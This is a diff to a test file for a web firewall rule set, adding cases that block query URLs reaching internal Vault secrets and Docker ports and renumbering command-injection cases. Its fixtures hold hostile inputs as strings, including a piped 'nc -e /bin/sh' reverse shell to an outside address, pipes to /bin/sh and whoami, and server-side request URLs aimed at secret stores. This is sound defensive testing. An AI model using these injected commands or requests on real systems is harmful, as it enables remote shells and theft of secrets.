@@ -6,7 +6,7 @@
  */
 import { describe } from 'vitest';
 import type { RequestSpec } from './fixtures.js';
-import { BROWSER, JSON_HEADERS, form, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
+import { BROWSER, JSON_HEADERS, form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
 
 const { hits, rules } = useBundledRuleSet();
 
@@ -57,6 +57,10 @@ const CASES: RuleCase[] = [
   // 9000521 rev 2: the same carve-out for a service name on an infrastructure port.
   [9000521, 'block', 'Vault\'s secrets on localhost by port', consul('http://localhost:8200/v1/secret/data/db'), consul('http://localhost:8200/healthz')],
   [9000521, 'block', 'a Compose service\'s Docker port with no path', json('{"webhook":"http://docker:2375"}'), json('{"check":{"http":"http://vault:8200/-/healthy"}}')],
+  // 9000520 rev 2 (fp28, session 28): the same carve-out in the URI (a status page polled through a proxy or a dashboard link).
+  [9000520, 'block', 'Vault\'s secrets by service name in a query', q('url=http://vault:8200/v1/secret/data/db'), q('url=http://vault:8200/health')],
+  [9000520, 'block', 'a health path with a query after it', q('check=http://docker:2375/healthz?all=1'), q('check=http://docker:2375/healthz&interval=10s')],
+  [9000520, 'block', 'a Compose service\'s Docker port with no path', q('target=http://docker:2375'), q('target=http://vault:8200/-/healthy')],
   // 9000414 rev 2: the Referer is the page the operator came from (DirectAdmin's editor for /opt/api/.env), not an input
   // of this request; the same path as this request's parameter, JSON value or cookie still blocks.
   [9000414, 'block', 'an app\'s .env as a query parameter', { url: '/files/get?filename=/opt/api/.env', headers: BROWSER }, fromPanel('https://10.0.0.5:2222/CMD_FILE_MANAGER?action=edit&path=%2Fopt%2Fapi%2F.env')],
@@ -65,8 +69,8 @@ const CASES: RuleCase[] = [
   // 9000314 rev 6, 9000329 rev 2: the same separator and command in an XML value a router pastes into a shell still block;
   // in a detection rule's text they alert (9000363, 9000364) and the model decides.
   [9000314, 'block', 'a pipe to uname -a in a SOAP value', soap('192.168.0.10|uname -a'), wazuh('gobuster|uname -a')],
-  [9000314, 'block', 'a pipe to /bin/sh in a SOAP value', soap('x|/bin/sh -c id'), wazuh('xp_cmdshell|/bin/bash', 'field name="data.http.user_agent"')],
-  [9000314, 'block', 'nc -e after a pipe in a form value', form('host=10.0.0.1|nc -e /bin/sh 203.0.113.7 4444'), fail2ban('win\\.ini|nc -e|%2e%2e%2f')],
+  [9000384, 'block', 'a pipe to /bin/sh in a SOAP value', soap('x|/bin/sh -c id'), wazuh('xp_cmdshell|/bin/bash', 'field name="data.http.user_agent"')],
+  [9000385, 'block', 'nc -e after a pipe in a form value', form('host=10.0.0.1|nc -e /bin/sh 203.0.113.7 4444'), fail2ban('win\\.ini|nc -e|%2e%2e%2f')],
   [9000329, 'block', 'a bare whoami between pipes in a SOAP value', soap('a|whoami|'), wazuh('/wp-login.php|/actuator/|whoami|..\\', 'field name="url"')],
   [9000329, 'block', 'uname -a between pipes in a form value', form('name=x.pptx|uname -a|&go=1'), fail2ban('union select|whoami|dirbuster')],
   // 9000323 rev 3: a Windows command after a separator, as a host field handed to cmd.exe, still blocks.
